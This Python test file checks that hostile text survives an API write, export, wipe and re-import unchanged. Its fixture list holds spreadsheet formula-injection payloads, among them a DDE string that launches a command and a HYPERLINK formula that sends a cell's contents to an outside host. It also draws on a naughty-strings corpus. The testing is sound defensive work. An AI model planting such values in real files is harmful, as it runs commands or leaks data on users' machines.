"""Texts that mean harm, through the whole way: written by the API, exported, wiped, imported."""

import json
from typing import Any

import pytest

from backend.community.porting.exports import Format
from tests.fixtures.record import Unit
from tests.porting.conftest import Moving
from tests.security.corpora import cases

FORMULAS = (
    "=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("https://x.org?"&A1,"x")',
    "'=1", "''=1", "'", "''", "'tis", "\uff1d1+1", "a\n=1", 'a","b', "a;b\tc", "\u00a0=1",
)  # fmt: skip
TEXTS = [*FORMULAS, *(case["value"] for case in cases("naughty_strings"))]


def _body(sent: dict[str, Any]) -> dict[str, Any]:
    return {"content": json.dumps(sent), "headers": {"Content-Type": "application/json"}}


@pytest.mark.slow
async def test_what_the_api_took_an_import_takes_and_gives_back(unit: Unit, moving: Moving) -> None:
    ids = await unit.members(len(TEXTS))
    taken = 0
    for number, (member, text) in enumerate(zip(ids, TEXTS, strict=True)):
        mission = {"slug": f"m-{number}", "title": text[:120], "briefing": text}
        made = await unit.officer.post("/api/missions", **_body(mission))
        if not made.is_success:
            await unit.mission(f"m-{number}")
        award = {"member": member, "mission": f"m-{number}", "note": text[:500], "role": text[:64]}
        given = await unit.officer.post("/api/completions", **_body(award))
        taken += made.is_success + given.is_success
        left = await unit.officer.put(f"/api/members/{member}/departure", **_body({"reason": text}))
        assert {made.status_code, given.status_code, left.status_code} <= {200, 201, 403, 422}
    assert taken > len(TEXTS)
    for wanted in Format:
        before = await moving.contents()
        exported = await moving.export(wanted)
        await moving.wipe()

        result = await moving.read_in(exported)

        assert [one.outcome for one in result.first_errors] == []
        after = await moving.contents()
        assert [name for name in before if before[name] != after[name]] == []
